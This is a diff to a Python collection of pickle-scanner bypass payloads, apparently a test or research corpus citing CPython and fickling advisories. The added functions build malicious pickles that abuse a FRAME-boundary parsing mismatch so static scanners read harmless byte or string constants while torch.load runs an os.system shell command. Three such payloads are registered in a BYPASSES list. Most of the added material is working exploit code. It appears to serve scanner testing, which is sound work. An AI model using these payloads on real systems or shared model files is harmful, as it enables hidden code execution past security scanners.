@@ -583,6 +583,52 @@ def _lit(value: Any) -> Callable[[Path], Any]:
     return lambda m: value
 
 
+# -- FRAME divergence (python/cpython#154848, trailofbits/fickling#317) -------------------------
+# CPython's C unpickler reading a file object without peek() (torch.load's io.BytesIO) drops the
+# rest of a frame when an opcode runs past its end and reads afresh after it; a flat reader such
+# as pickletools.genops reads on. Each payload below is a plain bytes or str constant to a flat
+# reader and an os.system call to torch.load.
+
+
+def _frame(body: bytes) -> bytes:
+    return b"\x95" + struct.pack("<Q", len(body)) + body
+
+
+def _hidden_call(m: Path) -> bytes:
+    return sglobal("os", "system") + u(shell(m)) + TUPLE1 + REDUCE
+
+
+def _frame_binbytes_length_straddle(m: Path) -> bytes:
+    # The frame ends two bytes into BINBYTES' 4-byte length. Flat: the length spans the boundary
+    # and the data swallows the call. C: the length is the four zero bytes after the frame, the
+    # data is empty, and the call runs.
+    hidden = _hidden_call(m)
+    return proto(4) + _frame(b"B" + struct.pack("<H", 2 + len(hidden))) + b"\0\0\0\0" + hidden + STOP
+
+
+def _frame_binunicode_data_straddle(m: Path) -> bytes:
+    # The frame ends five bytes into BINUNICODE's 6-byte data. Flat: the str takes one byte after
+    # the frame, then BINBYTES swallows the call. C: the 6 bytes are read after the frame (the
+    # BINBYTES header becomes text), and the call runs. The call is padded to a length whose
+    # four bytes are ASCII, so that C decodes that text without error.
+    call = _hidden_call(m)
+    length = len(call) + 3
+    while any(b >= 0x80 for b in struct.pack("<I", length)):
+        length += 1
+    pad = length - len(call) - 3
+    hidden = b"C" + bytes([pad]) + b"\0" * pad + POP + call
+    body = b"X" + struct.pack("<I", 6) + b"abcde"
+    return proto(4) + _frame(body) + b"z" + b"B" + struct.pack("<I", len(hidden)) + hidden + TUPLE2 + STOP
+
+
+def _frame_inside_frame(m: Path) -> bytes:
+    # A FRAME opens before the current one is used up. C drops the rest of the first frame (a
+    # SHORT_BINBYTES header) and reads the second, the call; flat, that header swallows the call.
+    hidden = _hidden_call(m) + STOP
+    inner = b"\x95" + struct.pack("<Q", len(hidden))
+    return proto(4) + _frame(inner + b"C" + bytes([len(hidden) - 1])) + hidden
+
+
 _SH, _PY = shell, py
 _GH_PS = "https://github.com/mmaitre314/picklescan/security/advisories/"
 _GH_FK = "https://github.com/trailofbits/fickling/security/advisories/"
@@ -955,6 +1001,24 @@ BYPASSES: list[Payload] = [
         "fickling_pty_spawn_obj", "https://github.com/trailofbits/fickling/pull/108", _obj_pty, "pty.spawn"
     ),
     Payload("fickling_pty_spawn_build", _GH_FK + "GHSA-r7v6-mfhq-g3m2", _pty_build, "pty.spawn"),
+    Payload(
+        "fickling_frame_boundary_binbytes_length",
+        "https://github.com/python/cpython/issues/154848; https://github.com/trailofbits/fickling/pull/317",
+        _frame_binbytes_length_straddle,
+        "os.system",
+    ),
+    Payload(
+        "fickling_frame_boundary_binunicode_data",
+        "https://github.com/python/cpython/issues/154848; https://github.com/trailofbits/fickling/pull/317",
+        _frame_binunicode_data_straddle,
+        "os.system",
+    ),
+    Payload(
+        "fickling_frame_opened_inside_frame",
+        "https://github.com/trailofbits/fickling/pull/317 (a FRAME opening before the previous one closed)",
+        _frame_inside_frame,
+        "os.system",
+    ),
     Payload(
         "fickling_marshal_functiontype",
         _GH_FK + "GHSA-565g-hwwr-4pp3",
